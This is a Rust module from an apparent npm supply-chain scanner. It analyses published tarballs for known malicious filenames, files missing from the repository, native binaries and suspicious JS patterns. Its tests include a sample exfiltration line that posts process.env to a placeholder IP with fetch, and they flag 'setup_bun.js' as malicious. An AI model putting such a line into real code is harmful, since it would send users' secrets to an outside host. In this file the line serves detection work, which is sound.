//! Published-tarball analysis: member enumeration, repository-tree
//! comparison, known-malicious filenames, and source pattern scanning with
//! minified files excluded.

use crate::patterns::{scan, severity_weight, KNOWN_MALICIOUS_FILES, SOURCE_PATTERNS};
use flate2::read::GzDecoder;
use pkgpulse_core::{PatternSeverity, SuspiciousPattern, TarballAnalysis, TarballFile};
use std::collections::HashSet;
use std::io::Read;
use tar::Archive;
use tracing::debug;

/// JS files above this size are not pattern-scanned.
const SCAN_SIZE_LIMIT: u64 = 500_000;

const BINARY_EXTENSIONS: &[&str] = &[
    ".node", ".so", ".dll", ".dylib", ".exe", ".bin", ".wasm", ".o", ".a",
];

/// Tarball paths that are expected to differ from the repository tree
/// (build output and packaging files).
const EXPECTED_GENERATED: &[&str] = &[
    "dist/", "build/", "lib/", "out/", "package.json", "readme", "license", "changelog",
];

/// Analyze raw tarball bytes (gzip-compressed tar, npm layout with a
/// top-level `package/` prefix).
pub fn analyze_tarball_bytes(
    bytes: &[u8],
    tarball_url: Option<&str>,
    repo_paths: Option<&HashSet<String>>,
) -> TarballAnalysis {
    let mut analysis = TarballAnalysis {
        tarball_url: tarball_url.map(String::from),
        tarball_size_bytes: bytes.len() as u64,
        ..Default::default()
    };

    let mut archive = Archive::new(GzDecoder::new(bytes));
    let entries = match archive.entries() {
        Ok(entries) => entries,
        Err(e) => {
            debug!("unreadable tarball: {e}");
            return analysis;
        }
    };

    for entry in entries {
        let Ok(mut entry) = entry else { continue };
        let Ok(path) = entry.path() else { continue };
        let raw_path = path.to_string_lossy().to_string();
        // npm tarballs prefix every member with "package/".
        let path = raw_path
            .strip_prefix("package/")
            .unwrap_or(&raw_path)
            .to_string();
        if path.is_empty() || path.ends_with('/') {
            continue;
        }

        let size = entry.header().size().unwrap_or(0);
        let mode = entry.header().mode().unwrap_or(0);
        let path_lower = path.to_lowercase();
        let is_binary = BINARY_EXTENSIONS.iter().any(|ext| path_lower.ends_with(ext));

        analysis.files.push(TarballFile {
            path: path.clone(),
            size_bytes: size,
            is_executable: mode & 0o111 != 0,
            is_binary,
        });
        analysis.has_native_code |= is_binary;

        let filename = path.rsplit('/').next().unwrap_or(&path).to_lowercase();
        if let Some((name, severity)) = KNOWN_MALICIOUS_FILES
            .iter()
            .find(|(name, _)| *name == filename)
        {
            analysis.suspicious_files.push(path.clone());
            analysis.suspicious_patterns.push(SuspiciousPattern {
                pattern_type: "known_malicious_file".to_string(),
                severity: *severity,
                location: path.clone(),
                matched_content: name.to_string(),
                description: format!("Known malicious filename: {name}"),
            });
        }

        if let Some(repo_paths) = repo_paths {
            if !repo_paths.contains(&path) && !is_expected_generated(&path_lower) {
                analysis.files_not_in_repo.push(path.clone());
            }
        }

        // Pattern-scan small, non-minified JS.
        let is_js = path_lower.ends_with(".js")
            || path_lower.ends_with(".cjs")
            || path_lower.ends_with(".mjs");
        if is_js && size < SCAN_SIZE_LIMIT {
            let mut content = String::new();
            if entry.read_to_string(&mut content).is_ok() {
                if is_minified(&content) {
                    analysis.has_minified_js = true;
                    analysis.minified_files.push(path.clone());
                } else {
                    analysis
                        .suspicious_patterns
                        .extend(scan(&SOURCE_PATTERNS, &content, &path));
                }
            }
        }
    }

    analysis.file_count = analysis.files.len();
    analysis.risk_score = score_tarball(&analysis);
    analysis
}

/// Allow-list of paths that are legitimately absent from the repository.
fn is_expected_generated(path_lower: &str) -> bool {
    if path_lower.starts_with('.') || path_lower.rsplit('/').next().unwrap_or("").starts_with('.') {
        return true;
    }
    if path_lower.ends_with(".d.ts") || path_lower.ends_with(".map") {
        return true;
    }
    EXPECTED_GENERATED
        .iter()
        .any(|p| path_lower.starts_with(p) || path_lower.contains(&format!("/{p}")))
}

/// Minified JS heuristic: very long average lines, or a large file squeezed
/// into a handful of lines. Minified files are excluded from pattern
/// scanning to limit false positives.
pub fn is_minified(content: &str) -> bool {
    let line_count = content.lines().count();
    if line_count == 0 {
        return false;
    }
    let avg_line_len = content.len() / line_count;
    avg_line_len > 200 || (content.len() > 5000 && line_count < 5)
}

/// Additive tarball risk, capped at 100.
fn score_tarball(analysis: &TarballAnalysis) -> u32 {
    let mut score: u32 = 0;
    for pattern in &analysis.suspicious_patterns {
        score += match pattern.pattern_type.as_str() {
            "known_malicious_file" => 40,
            _ => severity_weight(pattern.severity),
        };
    }
    score += (analysis.files_not_in_repo.len() as u32 * 5).min(20);
    if analysis.has_native_code {
        score += 10;
    }
    score.min(100)
}

/// Download and analyze a published tarball.
pub async fn download_and_analyze(
    client: &reqwest::Client,
    url: &str,
    repo_paths: Option<&HashSet<String>>,
) -> Option<TarballAnalysis> {
    let response = client.get(url).send().await.ok()?;
    if !response.status().is_success() {
        debug!(url, status = response.status().as_u16(), "tarball fetch failed");
        return None;
    }
    let bytes = response.bytes().await.ok()?;
    Some(analyze_tarball_bytes(&bytes, Some(url), repo_paths))
}

#[cfg(test)]
mod tests {
    use super::*;
    use flate2::write::GzEncoder;
    use flate2::Compression;
    use std::io::Write;

    /// Build an npm-layout .tgz in memory.
    fn make_tarball(files: &[(&str, &str)]) -> Vec<u8> {
        let mut builder = tar::Builder::new(Vec::new());
        for (path, content) in files {
            let mut header = tar::Header::new_gnu();
            header.set_size(content.len() as u64);
            header.set_mode(0o644);
            header.set_cksum();
            builder
                .append_data(&mut header, format!("package/{path}"), content.as_bytes())
                .unwrap();
        }
        let tar_bytes = builder.into_inner().unwrap();
        let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
        encoder.write_all(&tar_bytes).unwrap();
        encoder.finish().unwrap()
    }

    #[test]
    fn enumerates_members_and_strips_prefix() {
        let bytes = make_tarball(&[("index.js", "module.exports = 1;"), ("package.json", "{}")]);
        let analysis = analyze_tarball_bytes(&bytes, None, None);
        assert_eq!(analysis.file_count, 2);
        assert!(analysis.files.iter().any(|f| f.path == "index.js"));
        assert_eq!(analysis.risk_score, 0);
    }

    #[test]
    fn flags_known_malicious_filenames() {
        let bytes = make_tarball(&[("setup_bun.js", "x()"), ("index.js", "ok")]);
        let analysis = analyze_tarball_bytes(&bytes, None, None);
        assert_eq!(analysis.suspicious_files, vec!["setup_bun.js"]);
        assert!(analysis
            .suspicious_patterns
            .iter()
            .any(|p| p.pattern_type == "known_malicious_file"
                && p.severity == PatternSeverity::Critical));
        assert!(analysis.risk_score >= 40);
    }

    #[test]
    fn compares_against_repo_tree_with_allow_list() {
        let bytes = make_tarball(&[
            ("index.js", "ok"),
            ("dist/bundle.js", "built"),
            ("sneaky.js", "ok"),
            ("index.d.ts", "types"),
        ]);
        let repo: HashSet<String> = ["index.js".to_string()].into_iter().collect();
        let analysis = analyze_tarball_bytes(&bytes, None, Some(&repo));
        assert_eq!(analysis.files_not_in_repo, vec!["sneaky.js"]);
    }

    #[test]
    fn minified_js_is_excluded_from_scanning() {
        let minified = format!("var a=1;{}", "b();".repeat(2000));
        let bytes = make_tarball(&[("dist/min.js", &minified)]);
        let analysis = analyze_tarball_bytes(&bytes, None, None);
        assert!(analysis.has_minified_js);
        assert_eq!(analysis.minified_files, vec!["dist/min.js"]);
        assert!(analysis
            .suspicious_patterns
            .iter()
            .all(|p| p.location != "dist/min.js"));
    }

    #[test]
    fn scans_plain_js_for_source_patterns() {
        let evil = "const data = process.env;\nfetch('https://1.2.3.4/c', {body: data});\n";
        let bytes = make_tarball(&[("collect.js", evil)]);
        let analysis = analyze_tarball_bytes(&bytes, None, None);
        assert!(analysis
            .suspicious_patterns
            .iter()
            .any(|p| p.pattern_type == "network_call"));
        assert!(analysis.risk_score > 0);
    }

    #[test]
    fn minified_heuristics() {
        assert!(is_minified(&"x".repeat(500)));
        assert!(!is_minified("short\nlines\nhere\n"));
        let big_few_lines = format!("{}\n{}", "a".repeat(3000), "b".repeat(3000));
        assert!(is_minified(&big_few_lines));
    }

    #[test]
    fn corrupt_archive_degrades_gracefully() {
        let analysis = analyze_tarball_bytes(b"not a tarball", None, None);
        assert_eq!(analysis.file_count, 0);
        assert_eq!(analysis.risk_score, 0);
    }
}
